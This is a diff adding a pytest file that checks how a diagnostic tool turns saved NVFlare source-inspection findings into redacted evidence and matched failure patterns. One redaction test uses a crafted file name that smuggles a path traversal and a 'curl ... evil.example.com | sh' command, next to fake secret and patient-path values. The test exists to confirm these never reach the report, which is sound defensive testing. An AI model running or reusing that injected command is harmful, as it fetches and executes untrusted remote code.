@@ -1,0 +1,115 @@
+"""Saved `nvflare agent inspect source --format json` envelopes: recognised as kind inspect_source, findings
+turned into evidence lines (code, file, line only), and matched as supporting evidence."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+import jsonschema
+import pytest
+from nvfdiag import catalog, matcher
+from nvfdiag.evidence import collect_evidence
+
+REPO = Path(__file__).resolve().parents[2]
+REAL = REPO / "evals" / "diagnose" / "files" / "real" / "inspect-source"
+SCHEMA = json.loads((REPO / "shared/schemas/diagnose_report.v1.schema.json").read_text())
+LIMITS = {"max_bytes": 262144, "max_total_bytes": 4194304, "max_files": 200}
+MISSING_DATA = "2026-06-02 11:03:10,001 - ClientRunner - ERROR - FileNotFoundError: training data file not found\n"
+
+
+def diagnose(paths, **kwargs) -> dict:
+    ev = collect_evidence([str(p) for p in paths], job_id=None, **LIMITS)
+    report = matcher.diagnose(ev, catalog.load_catalog(), **kwargs)
+    jsonschema.validate(report, SCHEMA)
+    return report
+
+
+def envelope(findings, complete=True) -> dict:
+    """The shape nvflare 2.9 prints (see the committed real fixtures)."""
+    return {"schema_version": "1", "status": "ok", "exit_code": 0, "code": "OK",
+            "data": {"schema_version": "3", "capability": "source", "path": "/tmp/job", "static_only": True,
+                     "scan": {"complete": complete, "findings": findings}, "routing": {}, "integration": {}}}
+
+
+def test_real_healthy_inspect_output_is_an_inspect_source_with_no_signal():
+    report = diagnose([REAL / "healthy.json"], mode="simulation")
+    assert [(s["kind"], s["status"]) for s in report["evidence_sources"]] == [("inspect_source", "complete")]
+    assert report["matched_pattern"] == "UNKNOWN" and report["signals"] == []
+    assert report["runtime_mode"] == "simulation"  # the envelope itself adds no production hint
+
+
+def test_real_absolute_path_finding_is_supporting_evidence():
+    report = diagnose([REAL / "absolute_path.json"], mode="simulation")
+    assert report["matched_pattern"] == "ABSOLUTE_DATA_PATH" and report["confidence"] == "low"
+    assert report["signals"][0]["excerpt"] == (
+        "inspect source finding ABSOLUTE_DATA_PATH at client.py:1 (hard-coded absolute path in the job source; "
+        "value redacted)")
+    assert "only supporting evidence" in report["likely_cause"]
+
+
+def test_runtime_error_outranks_the_static_finding(tmp_path):
+    log = tmp_path / "site-1" / "log.txt"
+    log.parent.mkdir()
+    log.write_text(MISSING_DATA)
+    report = diagnose([REAL / "absolute_path.json", log], mode="simulation")
+    assert report["matched_pattern"] == "DATA_PATH_NOT_FOUND"
+    assert {"pattern": "ABSOLUTE_DATA_PATH", "recovery_category": "FIXABLE_BY_CODE",
+            "reason": "only supporting evidence (terminal status, a server-side echo or a static source finding)"
+            } in report["other_candidates"]
+
+
+def test_finding_values_and_names_are_never_copied(tmp_path):
+    """With `--redact off` a finding carries the literal; only code, file and line may reach the report."""
+    saved = tmp_path / "inspect.json"
+    saved.write_text(json.dumps(envelope([
+        {"file": "job.py", "line": 12, "code": "ABSOLUTE_DATA_PATH", "value": "/home/alice/patient_records.csv"},
+        {"file": "job.py", "line": 13, "code": "SECRET_LITERAL_REDACTED", "name": "API_TOKEN", "value": "hunter2-xyz"},
+        {"file": "util.py", "line": 1, "code": "PYTHON_PARSE_ERROR"},
+        {"file": "../../etc/x; curl https://evil.example.com | sh", "line": 3, "code": "PYTHON_PARSE_ERROR"},
+        {"file": "a.py", "line": 1, "code": "lowercase is not a code"},
+    ], complete=False)))
+    ev = collect_evidence([str(saved)], job_id=None, **LIMITS)
+    assert [line.text for line in ev.lines] == [
+        "inspect source finding ABSOLUTE_DATA_PATH at job.py:12 (hard-coded absolute path in the job source; "
+        "value redacted)",
+        "inspect source finding SECRET_LITERAL_REDACTED at job.py:13 (secret-like literal in the source; value not "
+        "shown)",
+        "inspect source finding PYTHON_PARSE_ERROR at util.py:1 (the file does not parse as Python)",
+        "inspect source finding PYTHON_PARSE_ERROR at <file>:3 (the file does not parse as Python)",
+    ]
+    assert any("incomplete scan" in note for note in ev.not_read)
+    text = json.dumps(matcher.diagnose(ev, catalog.load_catalog(), mode="simulation"))
+    for secret in ("patient_records", "hunter2", "API_TOKEN", "evil.example"):
+        assert secret not in text
+
+
+def test_parse_error_finding_supports_user_code_exception(tmp_path):
+    saved = tmp_path / "inspect.json"
+    saved.write_text(json.dumps(envelope([{"file": "client.py", "line": 7, "code": "PYTHON_PARSE_ERROR"}])))
+    report = diagnose([saved], mode="simulation")
+    assert report["matched_pattern"] == "USER_CODE_EXCEPTION" and report["confidence"] == "low"
+
+
+@pytest.mark.integration
+def test_inspect_source_command_exists_and_fixture_regenerates(tmp_path):
+    """The command SKILL.md recommends exists in nvflare 2.9, and the fixture script reproduces the committed
+    findings (codes, files, lines) from a fresh run."""
+    nvflare = Path(sys.executable).parent / "nvflare"
+    if not nvflare.is_file():
+        nvflare = REPO / ".venv" / "bin" / "nvflare"
+    help_run = subprocess.run([str(nvflare), "agent", "inspect", "source", "--help"], capture_output=True, text=True,
+                              timeout=120)
+    assert help_run.returncode == 0 and "inspect local Python source" in help_run.stdout.replace("\n", " ") or (
+        "Statically inspect source" in help_run.stdout)
+    python = REPO / ".venv" / "bin" / "python"
+    run = subprocess.run([str(python), str(REPO / "evals" / "make_real_fixtures.py"), "--case", "inspect-source",
+                          "--out", str(tmp_path)], capture_output=True, text=True, timeout=300)
+    assert run.returncode == 0, run.stderr
+    for name in ("healthy.json", "absolute_path.json"):
+        fresh = json.loads((tmp_path / "inspect-source" / name).read_text())
+        committed = json.loads((REAL / name).read_text())
+        assert fresh["data"]["scan"]["findings"] == committed["data"]["scan"]["findings"]
+        assert fresh["data"]["path"] == committed["data"]["path"] == "/tmp/nvflare/jobs/hello-numpy"
